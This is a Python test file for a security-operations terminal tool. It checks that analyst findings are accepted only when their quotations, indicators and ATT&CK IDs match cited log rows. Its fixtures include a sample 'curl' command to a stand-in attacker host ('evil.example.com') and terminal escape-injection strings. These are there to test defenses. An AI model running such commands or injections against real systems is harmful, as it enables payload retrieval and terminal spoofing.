"""Findings are believed only as far as the rows say so."""

import datetime as dt
from dataclasses import replace

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from soc_tui.analysts.cells import cell_text, escape
from soc_tui.analysts.grounding import ground, refang
from soc_tui.model.catalog import Column, KqlType
from soc_tui.model.finding import (
    Confidence,
    Evidence,
    Finding,
    Ioc,
    Mitre,
    Quotation,
    Severity,
)
from soc_tui.model.rows import Rows, row_id

COLUMNS = (
    Column("Timestamp", KqlType.DATETIME),
    Column("DeviceName", KqlType.STRING),
    Column("CommandLine", KqlType.STRING),
    Column("RemoteIP", KqlType.STRING),
    Column("EventId", KqlType.LONG),
    Column("Details", KqlType.DYNAMIC),
)
TABLE = pa.table(
    {
        "Timestamp": pa.array(
            [dt.datetime(2026, 11, 24, 10, 0, i, 500_000, dt.UTC) for i in range(3)],
            pa.timestamp("us", "UTC"),
        ),
        "DeviceName": ["ws-01", "ws-02", "dc-01"],
        "CommandLine": ["cmd /c whoami", "curl http://evil.example.com/a\x1b[2J", "x\ny"],
        "RemoteIP": ["10.0.0.15", "203.0.113.7", None],
        "EventId": pa.array([4624, 4688, None], pa.int64()),
        "Details": ['{"path":"C:\\\\Temp\\\\a.exe"}', "{}", None],
    }
)
ROWS = Rows(TABLE, COLUMNS)


def finding(
    *quotations: tuple[str, str, str], iocs: tuple[Ioc, ...] = (), mitre: tuple[Mitre, ...] = ()
) -> Finding:
    evidence = tuple(Evidence(row, (Quotation(column, text),)) for row, column, text in quotations)
    return Finding(
        "t", "d", Confidence.HIGH, Severity.HIGH, evidence=evidence, iocs=iocs, mitre=mitre
    )


HONEST = ("r1", "CommandLine", "whoami")


@pytest.mark.parametrize(
    "quotation",
    [
        HONEST,
        ("r1", "CommandLine", "cmd /c whoami"),
        ("r1", "Timestamp", "2026-11-24T10:00:00.5Z"),
        ("r1", "EventId", "4624"),
        ("r2", "CommandLine", "example.com/a⟦U+001B⟧[2J"),
        ("r2", "CommandLine", "example.com/a\x1b[2J"),
        ("r3", "CommandLine", "x⏎y"),
        ("r3", "CommandLine", "x\ny"),
        ("r1", "Details", "C:\\Temp\\a.exe"),
        ("r1", "Details", "C:\\\\Temp\\\\a.exe"),
    ],
)
def test_true_quotations_ground_a_finding(quotation: tuple[str, str, str]) -> None:
    grounded = ground(finding(quotation), ROWS)
    assert grounded.grounded, grounded.doubts
    assert grounded.doubts == ()


@pytest.mark.parametrize(
    ("quotation", "doubt"),
    [
        (("r4", "DeviceName", "ws-01"), "does not exist"),
        (("r0", "DeviceName", "ws-01"), "does not exist"),
        (("r01", "DeviceName", "ws-01"), "does not exist"),
        (("r1-r2", "DeviceName", "ws-01"), "does not exist"),
        (("r2", "DeviceName", "ws-01"), "does not stand in"),
        (("r1", "devicename", "ws-01"), "no column"),
        (("r1", "CommandLine", "WHOAMI"), "does not stand in"),
        (("r1", "CommandLine", ""), "empty"),
        (("r1", "CommandLine", " "), "empty"),
        (("r1", "CommandLine", "c"), "too short"),
        (("r1", "EventId", "462"), "does not stand in"),
        (("r3", "RemoteIP", "null"), "does not stand in"),
    ],
)
def test_false_quotations_are_doubted(quotation: tuple[str, str, str], doubt: str) -> None:
    grounded = ground(finding(quotation), ROWS)
    assert not grounded.grounded
    assert len(grounded.doubts) == 1
    assert doubt in grounded.doubts[0]


def test_one_lie_among_true_quotations_is_enough() -> None:
    grounded = ground(finding(HONEST, ("r2", "CommandLine", "mimikatz")), ROWS)
    assert not grounded.grounded
    assert "mimikatz" in grounded.doubts[0]


def test_no_evidence_and_no_quotation_prove_nothing() -> None:
    assert "cites no row" in ground(finding(), ROWS).doubts[0]
    bare = replace(finding(), evidence=(Evidence("r1"),))
    assert "without a quotation" in ground(bare, ROWS).doubts[0]


def test_earlier_word_of_the_finding_itself_counts_for_nothing() -> None:
    boastful = replace(finding(), grounded=True)
    assert not ground(boastful, ROWS).grounded


@pytest.mark.parametrize(
    "value",
    ["203.0.113.7", "203[.]0[.]113[.]7", "EVIL.example.com", "hxxp://evil[.]example[.]com/a",
     "example.com", "hxxp[://]evil(dot)example.com/a", "ws-02"],
)  # fmt: skip
def test_indicators_stand_in_a_cited_row(value: str) -> None:
    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(Ioc("any", value),)), ROWS)
    assert grounded.grounded, grounded.doubts


@pytest.mark.parametrize(
    "value", ["10.0.0.15", "203.0.113.77", "03.0.113.7", "3.0.113.7", "0.113.7", "evil.example",
              "vil.example.com", "ws-0", "", " "]
)  # fmt: skip
def test_indicators_from_elsewhere_are_doubted(value: str) -> None:
    grounded = ground(finding(("r2", "DeviceName", "ws-02"), iocs=(Ioc("any", value),)), ROWS)
    assert not grounded.grounded
    assert "indicator" in grounded.doubts[0]


def test_windows_path_in_json_is_found_as_indicator() -> None:
    path = Ioc("path", "c:\\temp\\A.exe")
    assert ground(finding(HONEST, iocs=(path,)), ROWS).grounded


def test_attack_ids_are_filled_from_the_list_or_doubted() -> None:
    good = ground(finding(HONEST, mitre=(Mitre("", "T1059", "T1059.003"),)), ROWS)
    assert good.grounded
    assert good.mitre[0].name == "Windows Command Shell"
    bad = ground(finding(HONEST, mitre=(Mitre("Execution", "T9999"),)), ROWS)
    assert not bad.grounded
    assert "T9999 is not in MITRE ATT&CK" in bad.doubts[0]


def test_doubts_show_no_escape_sequence() -> None:
    grounded = ground(finding(("r1", "x\x1b]0;pwned\x07", "[red]\u202e" + "y" * 5000)), ROWS)
    text = "".join(grounded.doubts)
    assert text == escape(text, keep_marks=True)
    assert len(text) < 300


@settings(deadline=None)
@given(
    row=st.integers(1, 3),
    column=st.sampled_from(COLUMNS),
    quote=st.one_of(
        st.text(max_size=20), st.sampled_from(["ws-0", "4624", "Temp", "evil", "203."])
    ),
)
def test_a_grounded_quotation_is_always_in_its_cell(row: int, column: Column, quote: str) -> None:
    grounded = ground(finding((row_id(row - 1), column.name, quote)), ROWS)
    cell = cell_text(TABLE.column(column.name)[row - 1].as_py(), column.type)
    if grounded.grounded:
        assert quote.strip()
        assert escape(quote) in cell or escape(quote, keep_marks=True) in cell
    elif len(quote.strip()) >= 3 and column.type is KqlType.STRING:
        assert quote not in cell


@settings(deadline=None)
@given(st.text(max_size=30), st.text(max_size=30), st.text(max_size=30), st.text(max_size=30))
def test_invented_things_never_ground(row: str, column: str, text: str, ioc: str) -> None:
    """Whatever is cited, the cells of these rows hold no snowman."""
    lies = [
        finding((row, column, text + "☃")),
        finding(HONEST, ("r1", column + "☃", text)),
        finding(HONEST, (row + "☃", "DeviceName", "ws-01")),
        finding(HONEST, iocs=(Ioc("other", ioc + "☃"),)),
    ]
    assert not any(ground(lie, ROWS).grounded for lie in lies)


@settings(deadline=None)
@given(st.from_regex(r"[a-z]{1,8}(\.[a-z]{1,8}){1,3}", fullmatch=True))
def test_refanging_undoes_defanging(domain: str) -> None:
    url = f"http://{domain}/x"
    assert refang(url) == url
    assert refang(f"hxxp[://]{domain.replace('.', '[.]')}/x") == url
    assert refang(f"hxxps://{domain.replace('.', '(dot)')}") == f"https://{domain}"
